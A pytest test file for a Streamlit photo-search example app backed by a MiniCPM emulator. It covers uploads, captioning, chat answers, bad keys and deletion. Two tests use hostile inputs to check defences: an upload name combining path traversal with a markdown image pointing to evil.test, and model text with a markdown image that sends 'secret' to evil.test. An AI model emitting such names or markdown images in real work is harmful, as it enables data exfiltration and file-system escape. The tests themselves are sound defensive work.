"""The example app, driven as its visitors do."""

from __future__ import annotations

from pathlib import Path
from typing import TYPE_CHECKING, Any

import pytest

from minicpm_core.emulator import EmulatorServer

pytest.importorskip("streamlit")
from streamlit.testing.v1 import AppTest  # pyright: ignore[reportMissingImports]

if TYPE_CHECKING:
    from collections.abc import Iterator

APP = Path(__file__).parents[2] / "examples" / "photo_search"
PHOTOS = APP.parent / "photos"
KEY = "made-up-key-of-the-app"


@pytest.fixture(autouse=True)
def beside_the_app(monkeypatch: pytest.MonkeyPatch) -> None:
    """`streamlit run` puts the folder of the script on the path, and the script's arguments into `sys.argv`."""
    monkeypatch.syspath_prepend(str(APP))
    monkeypatch.setattr("sys.argv", ["app.py"])


@pytest.fixture(autouse=True)
def server(monkeypatch: pytest.MonkeyPatch) -> Iterator[EmulatorServer]:
    """A server of the visitor's own."""
    import streamlit as st  # pyright: ignore[reportMissingImports]

    st.cache_resource.clear()
    with EmulatorServer(dialect="vllm", api_key=KEY) as server:
        monkeypatch.setenv("MINICPM_BASE_URL", server.base_url)
        monkeypatch.setenv("MINICPM_API_KEY", KEY)
        yield server
    st.cache_resource.clear()


def opened() -> Any:
    app = AppTest.from_file(str(APP / "app.py"), default_timeout=60).run()
    assert not app.exception
    return app


def upload(app: Any, *files: tuple[str, bytes]) -> Any:
    app.file_uploader[0].set_value([(name, data, "application/octet-stream") for name, data in files]).run()
    assert not app.exception
    return app


def photos() -> list[tuple[str, bytes]]:
    return [(path.name, path.read_bytes()) for path in sorted(PHOTOS.glob("*.jpg"))]


def captions_asked(server: EmulatorServer) -> int:
    return sum(request.method == "POST" for request in server.requests)


def shown(app: Any) -> str:
    return "\n".join(each.value for each in (*app.markdown, *app.caption))


def test_without_pictures_it_says_what_to_do() -> None:
    app = opened()
    assert "Ask about your own pictures" in shown(app)
    assert not app.chat_input


def test_without_a_server_an_emulator_is_started_and_the_page_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("MINICPM_BASE_URL")
    monkeypatch.delenv("MINICPM_API_KEY")
    app = opened()
    assert "An emulator answers, not a model." in app.info[0].value
    app.button[0].click().run()
    assert "3 pictures" in [each.label for each in app.expander]


def test_uploads_are_described_once_and_shown(server: EmulatorServer) -> None:
    app = upload(opened(), *photos())
    assert "3 pictures" in [each.label for each in app.expander]
    assert "640 x 427 pixels" in shown(app)
    assert captions_asked(server) == 3
    upload(app, *photos()[:1])
    assert captions_asked(server) == 3


def test_a_question_is_answered_from_the_pictures_whose_captions_fit(server: EmulatorServer) -> None:
    app = upload(opened(), *photos())
    app.chat_input[0].set_value("Which one is mostly blue?").run()
    assert not app.exception
    request = server.requests[-1].body
    *_, question = request["messages"]
    texts = [part["text"] for part in question["content"] if part["type"] == "text"]
    assert texts[0] == "[1] rocket.jpg"
    assert texts[-1] == "Which one is mostly blue?"
    assert "mostly blue" in shown(app)
    assert ":primary-badge[1] rocket.jpg" in shown(app)
    assert "Thoughts" in [each.label for each in app.expander]
    app.run()  # the conversation stays
    assert ":primary-badge[1] rocket.jpg" in shown(app)


def test_a_question_that_no_caption_fits_says_that_it_shows_the_newest() -> None:
    app = upload(opened(), *photos())
    app.slider[0].set_value(1).run()
    app.chat_input[0].set_value("Zebra?").run()
    assert "No caption has a word of this question" in shown(app)


def test_a_file_that_is_no_picture_is_named_and_the_others_are_kept() -> None:
    app = upload(opened(), ("notes.png", b"just text"), *photos()[:1])
    assert "notes.png" in shown(app)
    assert "neither a picture nor a PDF" in shown(app)
    assert "1 picture" in [each.label for each in app.expander]


def test_a_name_is_neither_a_path_nor_markdown(tmp_path: Path) -> None:
    app = upload(opened(), ("../../![x](http://evil.test/a.png).jpg", photos()[0][1]))
    assert "![" not in shown(app)
    album = app.session_state.album
    assert [path.parent for path in album.folder.iterdir()] == [album.folder]


def test_a_wrong_key_is_told_in_words_and_not_shown(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MINICPM_API_KEY", "another-made-up-key")
    app = upload(opened(), *photos())
    assert "401" in app.error[0].value
    assert "another-made-up-key" not in app.error[0].value + shown(app)


def test_an_answer_that_breaks_off_keeps_what_came_and_says_why(server: EmulatorServer) -> None:
    app = upload(opened(), *photos())
    app.toggle[0].set_value(False).run()
    server.inject("cut-after=8")
    app.chat_input[0].set_value("Which one is mostly blue?").run()
    assert not app.exception
    assert app.error
    assert "What looks" in shown(app)


def test_a_folder_given_at_the_start_is_read(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("sys.argv", ["app.py", str(PHOTOS)])
    assert "3 pictures" in [each.label for each in opened().expander]


def test_forgetting_deletes_the_uploads() -> None:
    app = upload(opened(), *photos())
    folder = app.session_state.album.folder
    assert len(list(folder.iterdir())) == 3
    next(button for button in app.button if button.label == "Forget everything").click().run()
    assert list(folder.iterdir()) == []
    assert "Ask about your own pictures" in shown(app)


def test_a_model_cannot_show_a_picture_from_elsewhere() -> None:
    from asking import Turn  # type: ignore[import-not-found]  # pyright: ignore[reportMissingImports]

    turn = Turn("?", photos=[object()], text="See [1], [2] and ![x](http://evil.test/?q=secret)")
    assert turn.markdown == "See :primary-badge[1], [2] and !\\[x](http://evil.test/?q=secret)"
